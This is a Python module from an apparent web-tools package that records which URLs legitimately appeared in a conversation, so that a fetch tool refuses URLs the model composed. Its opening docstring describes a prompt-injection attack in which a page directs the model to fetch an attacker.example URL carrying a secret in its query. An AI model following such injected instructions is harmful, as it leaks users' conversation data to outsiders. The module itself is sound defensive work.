"""URL provenance: the URLs that appeared in a conversation, so a tool can refuse any other.

A prompt-injected page can tell the model to fetch ``https://attacker.example/?q=<secret>``: a URL the
model composed, carrying conversation data out in its query. A URL that the user wrote, that a search
returned or that a page the model read linked to was not composed by the model, so it carries nothing
the model added. ``ConversationUrls`` records those; ``web_fetch`` refuses the rest.

The one rule, decided here and nowhere else (the turn, ``replay``, both adapters' ``observe`` and the
MCP door all call ``ConversationUrls``):

- What the user wrote counts (``observe``).
- A tool's result counts when it succeeded and its tool is untrusted (its output came from outside:
  a page, an engine), less every URL that the call's own input holds (``observe_result``); in a
  transcript, a tool message counts only as a whole wrapped untrusted output that is not an error
  (``observe_tool_message``).
- A URL the person at the client confirmed when a door asked them (MCP elicitation) counts, alone
  (``confirm``): never on the model's word.
- Nothing else counts: error results (they echo the model's input back: a schema error quotes the bad
  value), trusted tools' outputs (a tool that only computes may echo its input), the model's own
  messages and tool arguments (exactly what an injected page steers), system prompts.
"""
from __future__ import annotations

import json
import threading
from collections.abc import Iterable, Mapping
from typing import Any

from webtools.net import InvalidURL, read_url
from webtools.net.urls import URL_IN_TEXT as _URL

from .wrapping import unwrap_untrusted

#: Characters that end a sentence or close Markdown around a URL rather than belong to it.
_TRAILING = ".,;:!?)]*_'\"»”’"
#: A conversation's record stays bounded: a turn that reads a hundred link-heavy pages is far below.
MAX_URLS = 100_000


def canonical(url: str) -> str | None:
    """``url`` in its canonical form (``webtools.net.read_url``, the form the guarded client connects
    to and every other check takes), or None when it cannot be fetched at all.

    Case of scheme and host, IDNA, default port, dot segments, escaping and the fragment do not
    matter; the path and query do, so ``?d=secret`` appended to an address makes another address.
    """
    try:
        return str(read_url(url))
    except InvalidURL:
        return None


def urls_in(text: str) -> set[str]:
    """The canonical forms of the http(s) URLs in ``text``.

    A URL followed by punctuation (``see https://a.example/x.``) or closing Markdown
    (``[a](https://a.example/x)``) is recorded with and without it: both spellings were in the text.
    """
    found: set[str] = set()
    for match in _URL.finditer(text):
        candidate = match.group(0)
        while candidate:
            form = canonical(candidate)
            if form:
                found.add(form)
            if candidate[-1] not in _TRAILING:
                break
            candidate = candidate[:-1]
    return found


class ConversationUrls:
    """The canonical forms of the URLs that appeared in one conversation (thread-safe)."""

    def __init__(self, texts: Iterable[str] = ()) -> None:
        self._urls: set[str] = set()
        self._lock = threading.Lock()
        for text in texts:
            self.observe(text)

    def observe(self, text: str) -> None:
        """Record the URLs in ``text``, a message the user wrote (or text the host vouches for as the
        user's). Never pass the model's own text or a tool's."""
        if isinstance(text, str) and text:
            self._add(urls_in(text))

    def observe_result(self, output: Any, *, untrusted: bool, is_error: bool = False,
                       call_input: Any = None) -> None:
        """Record what one tool result adds: every URL in a successful untrusted ``output`` (any
        string at any depth) that the call's own ``call_input`` does not hold; nothing for an error,
        an error-shaped output or a trusted tool's output. ``call_input`` is the call's arguments, as
        a mapping or as the model's JSON text."""
        if not untrusted or is_error or is_error_output(output):
            return
        found = _urls_of(output)
        if found:
            self._add(found - _urls_of(_arguments(call_input)))

    def observe_tool_message(self, text: Any, *, is_error: bool = False, call_input: Any = None) -> None:
        """Record what a tool message of a transcript adds: the text the model was shown
        (``ToolResult.model_text``). Only a whole wrapped untrusted output counts, and only when it is
        not an error; its inner JSON is read back into the output it was made from."""
        inner = unwrap_untrusted(text)
        if inner is None:
            return
        try:
            output = json.loads(inner)
        except ValueError:
            output = inner
        self.observe_result(output, untrusted=True, is_error=is_error, call_input=call_input)

    def confirm(self, url: str) -> None:
        """Record ``url`` alone, which the user confirmed when asked about it (never on the model's word).
        Nothing else in it counts: not a URL in its query, not its links."""
        form = canonical(url)
        if form:
            self._add({form})

    def snapshot(self) -> list[str]:
        """The canonical forms recorded, to keep them where a door keeps a conversation (``restore``)."""
        with self._lock:
            return sorted(self._urls)

    @classmethod
    def restore(cls, forms: Iterable[str]) -> ConversationUrls:
        """A record holding ``forms``, which a ``snapshot`` gave (never text from a user or a tool)."""
        urls = cls()
        urls._add({form for form in forms if isinstance(form, str)})
        return urls

    def _add(self, urls: set[str]) -> None:
        with self._lock:
            room = MAX_URLS - len(self._urls)
            if room <= 0:
                return
            self._urls.update(list(urls)[:room] if len(urls) > room else urls)

    def __contains__(self, url: object) -> bool:
        form = canonical(url) if isinstance(url, str) else None
        with self._lock:
            return form is not None and form in self._urls

    def __len__(self) -> int:
        return len(self._urls)


def is_error_output(output: Any) -> bool:
    """An error result's output: an object with an ``error`` member (``{"error": message}``, with
    whatever details the runtime adds beside it). No successful output of a webtools tool has one."""
    return isinstance(output, Mapping) and "error" in output


def _arguments(call_input: Any) -> Any:
    """A call's arguments as data: the model's JSON text decoded, so an escaped URL is seen too."""
    if isinstance(call_input, str):
        try:
            return json.loads(call_input)
        except ValueError:
            return call_input
    return call_input


def _urls_of(value: Any) -> set[str]:
    found: set[str] = set()
    for text in _strings(value):
        found |= urls_in(text)
    return found


def _strings(value: Any) -> Iterable[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for key, item in value.items():
            yield from _strings(key)
            yield from _strings(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _strings(item)
